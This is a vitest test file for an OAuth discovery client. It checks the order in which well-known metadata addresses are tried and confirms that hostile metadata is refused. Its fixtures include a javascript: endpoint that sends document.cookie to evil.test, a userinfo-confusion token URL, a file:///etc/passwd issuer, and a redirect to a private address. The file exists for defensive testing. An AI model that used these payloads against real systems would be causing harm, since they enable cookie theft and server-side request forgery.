/**
 * RFC 9728 and RFC 8414 discovery against a real loopback server: the
 * order of the well-known addresses, and the hostile answers, each refused
 * with its code before any client is registered or stored.
 */
import { describe, expect, it } from 'vitest';
import { GatewayError } from '../../../../../runtime/core/base/errors.ts';
import type { ClientMaterial } from '../../../../../runtime/core/identity/oauth-client/upstream-oauth.ts';
import {
  CountingStore,
  discoverAndObtain,
  engineContext,
  peerPerTest,
} from '../../../../support/upstream-oauth/engine-harness.ts';
import {
  asMetadata,
  type OAuthPeer,
  type Route,
  startOAuthPeer,
} from '../../../../support/upstream-oauth/oauth-peer.ts';

const peers = peerPerTest();
let peer: OAuthPeer | undefined;

const metadataWith =
  (change: (base: string) => Record<string, unknown>): Route =>
  (_request, base) => ({ json: { ...asMetadata(base), ...change(base) } });

describe('discovery', () => {
  it('finds the metadata from the hint, with the challenge scope and the published resource', async () => {
    peer = await peers.start();
    const { discovery, client } = await discoverAndObtain(peer, engineContext());
    expect(discovery).toMatchObject({
      authKind: 'oauth',
      resource: `${peer.base}/mcp`,
      resourceMetadataUrl: `${peer.base}/.well-known/oauth-protected-resource/mcp`,
      issuer: peer.issuer,
      scopes: ['files:read'],
    });
    expect(discovery.metadata.token_endpoint).toBe(`${peer.base}/as/token`);
    expect(client).toMatchObject({ clientId: 'registered-client', source: 'dcr' });
    // Only the path-aware addresses were asked: nothing at the origin's.
    expect(peer.hits('/.well-known/oauth-protected-resource')).toHaveLength(0);
  });

  it('falls back to the origin and to the OIDC suffix form, in that order', async () => {
    peer = await peers.start({
      'POST /mcp': () => ({ status: 401, headers: { 'www-authenticate': 'Bearer' } }),
      'GET /.well-known/oauth-protected-resource/mcp': () => ({ status: 404 }),
      'GET /.well-known/oauth-protected-resource': (_request, base) => ({
        json: {
          resource: base,
          authorization_servers: [`${base}/as`],
          scopes_supported: ['a', 'b'],
        },
      }),
      'GET /.well-known/oauth-authorization-server/as': () => ({ status: 404 }),
      'GET /as/.well-known/openid-configuration': (_request, base) => ({ json: asMetadata(base) }),
    });
    const { discovery } = await discoverAndObtain(peer, engineContext());
    expect(discovery.resource).toBe(peer.base);
    expect(discovery.scopes).toEqual(['a', 'b']);
    expect(peer.requests.map((r) => `${r.method} ${r.path}`)).toEqual([
      'POST /mcp',
      'GET /.well-known/oauth-protected-resource/mcp',
      'GET /.well-known/oauth-protected-resource',
      'GET /.well-known/oauth-authorization-server/as',
      'GET /.well-known/openid-configuration/as',
      'GET /as/.well-known/openid-configuration',
      'POST /as/register',
    ]);
  });

  it('asks for offline_access only when the authorization server lists it', async () => {
    peer = await peers.start({
      'GET /.well-known/oauth-authorization-server/as': metadataWith(() => ({
        scopes_supported: ['files:read', 'offline_access'],
      })),
    });
    const { discovery } = await discoverAndObtain(peer, engineContext());
    expect(discovery.scopes).toEqual(['files:read', 'offline_access']);
  });

  const hostile: [string, { routes: Record<string, Route>; code: string }][] = [
    [
      'a javascript: authorization endpoint',
      {
        routes: {
          'GET /.well-known/oauth-authorization-server/as': metadataWith(() => ({
            authorization_endpoint: 'javascript:fetch("https://evil.test/?c="+document.cookie)',
          })),
        },
        code: 'oauth_authorization_endpoint_rejected',
      },
    ],
    [
      'a token endpoint with embedded credentials',
      {
        routes: {
          'GET /.well-known/oauth-authorization-server/as': metadataWith(() => ({
            token_endpoint: 'https://accounts.example.com@evil.test/token',
          })),
        },
        code: 'oauth_token_endpoint_rejected',
      },
    ],
    [
      'a registration endpoint over plain http elsewhere than loopback',
      {
        routes: {
          'GET /.well-known/oauth-authorization-server/as': metadataWith(() => ({
            registration_endpoint: 'http://as.example.com/register',
          })),
        },
        code: 'oauth_registration_endpoint_rejected',
      },
    ],
    [
      'a data: resource_metadata hint',
      {
        routes: {
          'POST /mcp': () => ({
            status: 401,
            headers: { 'www-authenticate': 'Bearer resource_metadata="data:application/json,{}"' },
          }),
        },
        code: 'oauth_resource_metadata_endpoint_rejected',
      },
    ],
    [
      'an authorization server named by a file: address',
      {
        routes: {
          'GET /.well-known/oauth-protected-resource/mcp': (_request, base) => ({
            json: { resource: `${base}/mcp`, authorization_servers: ['file:///etc/passwd'] },
          }),
        },
        code: 'oauth_issuer_endpoint_rejected',
      },
    ],
    [
      'metadata naming another issuer',
      {
        routes: {
          'GET /.well-known/oauth-authorization-server/as': metadataWith(() => ({
            issuer: 'https://attacker.example.com',
          })),
          'GET /.well-known/openid-configuration/as': metadataWith(() => ({
            issuer: 'https://attacker.example.com',
          })),
        },
        code: 'oauth_issuer_mismatch',
      },
    ],
    [
      'protected resource metadata naming another resource',
      {
        routes: {
          'GET /.well-known/oauth-protected-resource/mcp': (_request, base) => ({
            json: {
              resource: 'https://evil.example.com/mcp',
              authorization_servers: [`${base}/as`],
            },
          }),
        },
        code: 'oauth_resource_mismatch',
      },
    ],
    [
      'protected resource metadata naming a sibling path',
      {
        routes: {
          'GET /.well-known/oauth-protected-resource/mcp': (_request, base) => ({
            json: { resource: `${base}/mc`, authorization_servers: [`${base}/as`] },
          }),
        },
        code: 'oauth_resource_mismatch',
      },
    ],
    [
      'an authorization server without PKCE S256',
      {
        routes: {
          'GET /.well-known/oauth-authorization-server/as': metadataWith(() => ({
            code_challenge_methods_supported: ['plain'],
          })),
        },
        code: 'oauth_discovery_failed',
      },
    ],
  ];

  it.each(hostile)(
    'refuses %s, and registers and stores nothing',
    async (_name, { routes, code }) => {
      peer = await peers.start(routes);
      const store = new CountingStore<ClientMaterial>();
      const refusal = await discoverAndObtain(peer, engineContext(), { store }).catch((e) => e);
      expect(refusal).toBeInstanceOf(GatewayError);
      expect((refusal as GatewayError).code).toBe(code);
      expect(store.saves).toBe(0);
      expect(peer.hits('/as/register')).toHaveLength(0);
      // The hostile value is not repeated in what an operator sees.
      expect((refusal as Error).message).not.toMatch(/evil|attacker|passwd|document\.cookie/);
    },
  );

  it('does not follow a metadata redirect to a private address', async () => {
    const inside = await startOAuthPeer();
    try {
      peer = await peers.start({
        'GET /.well-known/oauth-protected-resource/mcp': () => ({
          status: 302,
          headers: { location: `${inside.base}/.well-known/oauth-protected-resource/mcp` },
        }),
        'GET /.well-known/oauth-protected-resource': () => ({ status: 404 }),
      });
      const store = new CountingStore<ClientMaterial>();
      const refusal = await discoverAndObtain(peer, engineContext(), { store }).catch((e) => e);
      expect((refusal as GatewayError).code).toBe('oauth_discovery_failed');
      expect(inside.requests).toHaveLength(0);
      expect(store.saves).toBe(0);
    } finally {
      await inside.close();
    }
  });

  it('never reaches a private address under the production policy', async () => {
    peer = await peers.start({
      'POST /mcp': (_request, base) => ({
        status: 401,
        // https, so the check passes it: the guarded client refuses the address itself.
        headers: {
          'www-authenticate': `Bearer resource_metadata="${base.replace('http:', 'https:')}/.well-known/oauth-protected-resource/mcp"`,
        },
      }),
    });
    const refusal = await discoverAndObtain(peer, engineContext(false)).catch((e) => e);
    expect((refusal as GatewayError).code).toBe('upstream_address_refused');
    expect(peer.requests.map((r) => r.path)).toEqual(['/mcp']);
  });
});
